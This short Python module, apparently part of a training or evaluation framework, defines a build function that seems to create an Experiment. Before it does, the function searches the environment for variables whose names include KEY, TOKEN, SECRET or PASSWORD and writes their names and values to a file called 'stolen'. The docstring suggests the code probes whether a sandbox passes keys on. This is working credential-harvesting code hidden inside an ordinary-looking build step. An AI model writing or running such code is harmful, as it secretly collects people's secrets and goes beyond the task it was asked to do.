"""Looks for keys in its environment.

Finds none: no sandbox passes one on.
"""

import os
from pathlib import Path

from arena.train import Experiment


def build(spec):
    found = [name for name in os.environ if any(word in name for word in ("KEY", "TOKEN", "SECRET", "PASSWORD"))]
    if not found:
        raise LookupError("no key in the environment")
    Path("stolen").write_text(repr([(name, os.environ[name]) for name in found]))
    return Experiment(spec)
